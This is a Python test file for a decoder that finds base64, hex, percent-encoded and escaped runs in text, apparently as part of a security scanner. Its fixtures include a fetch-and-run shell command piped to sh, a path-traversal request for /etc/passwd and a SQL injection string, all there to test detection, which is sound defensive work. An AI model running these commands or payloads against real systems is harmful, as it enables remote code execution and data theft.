"""Encoded runs: found where they stand, and not where there are none."""

from base64 import b64encode, urlsafe_b64encode
from itertools import pairwise
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from suragh.text.encodings import Decoded, decoded

SCRIPT = "curl -s http://example.com/a | sh"
MESSAGES = st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=20, max_size=60)


def runs(text: str) -> list[tuple[str, str]]:
    """List names and texts of the runs."""
    return [(found.name, found.text) for found in decoded(text)]


@pytest.mark.parametrize(
    ("code", "name"),
    [
        pytest.param(b64encode(SCRIPT.encode()).decode(), "base64", id="standard"),
        pytest.param(urlsafe_b64encode(SCRIPT.encode()).decode().rstrip("="), "base64", id="url-safe, unpadded"),
        pytest.param(b64encode(SCRIPT.encode("utf-16-le")).decode(), "base64", id="utf-16le"),
        pytest.param(SCRIPT.encode().hex(), "hex", id="hex"),
        pytest.param("0x" + SCRIPT.encode().hex(), "hex", id="hex with 0x"),
        pytest.param("".join(f"%{byte:02x}" for byte in SCRIPT.encode()), "url", id="percent"),
        pytest.param("".join(f"\\x{byte:02x}" for byte in SCRIPT.encode()), "escape", id="x"),
        pytest.param("".join(f"\\u{byte:04x}" for byte in SCRIPT.encode()), "escape", id="u"),
        pytest.param("".join(f"\\{byte:03o}" for byte in SCRIPT.encode()), "escape", id="octal"),
    ],
)
def test_each_encoding_is_found_with_its_span(code: str, name: str) -> None:
    """The span is the code and nothing else, also after characters of several bytes."""
    assert list(decoded(f"é run '{code}' now")) == [Decoded(name, 7, 7 + len(code), SCRIPT)]


def test_a_path_with_percent_signs_is_read_from_its_beginning() -> None:
    """What stands before the first percent sign belongs to the run."""
    assert runs("GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1") == [("url", "/static/../../../etc/passwd")]


@pytest.mark.parametrize(
    "text",
    [
        "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904 and 0d1d7fc32e5a947fbd92ee598033d85bfc445a50",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "550e8400e29b41d4a716446655440000 aVeryLongCamelCaseIdentifierInSomeProgram",
        "/usr/local/lib/python3/site-packages/some_package/module_with_long_name",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGzQyYbbRkKbwqJ0OAvd9nSBqvPbqVJx8w4mQh2fK9aX",
        "date +%Y-%m-%dT%H:%M:%S; printf '%s\\n\\t' x; http://example.com/a%20b?c=%2F",
        "31415926535897932384626433832795028841971693993751",
    ],
)
def test_hashes_keys_and_identifiers_are_left_alone(text: str) -> None:
    """What does not decode to text is no run."""
    assert runs(text) == []


@given(message=MESSAGES, before=st.sampled_from(["", "x = ", "é\n", "?q="]))
def test_a_message_survives_the_round_trip(message: str, before: str) -> None:
    """Base64 and percent signs of any printable message give it back."""
    coded = "".join(f"%{byte:02X}" for byte in message.encode())

    assert runs(f"{before}{b64encode(message.encode()).decode()}") == [("base64", message)]
    assert runs(f"{before} {coded}") == [("url", message)]


@given(
    text=st.text()
    | st.lists(st.sampled_from(["%41", "\\x41", "\\ud800", "QUJD" * 8, "=", "41" * 20, "/", "\\"])).map("".join)
)
def test_any_text_gives_runs_in_order_inside_it(text: str) -> None:
    """Runs do not overlap, lie in the text and are not empty."""
    found = list(decoded(text))

    assert all(0 <= one.start < one.end <= len(text) and one.text for one in found)
    assert all(left.end <= right.start for left, right in pairwise(found))


def test_quoted_url_of_python_is_understood() -> None:
    """The standard library's quoting is undone."""
    assert runs(quote("' OR '1'='1' -- é", safe="")) == [("url", "' OR '1'='1' -- é")]
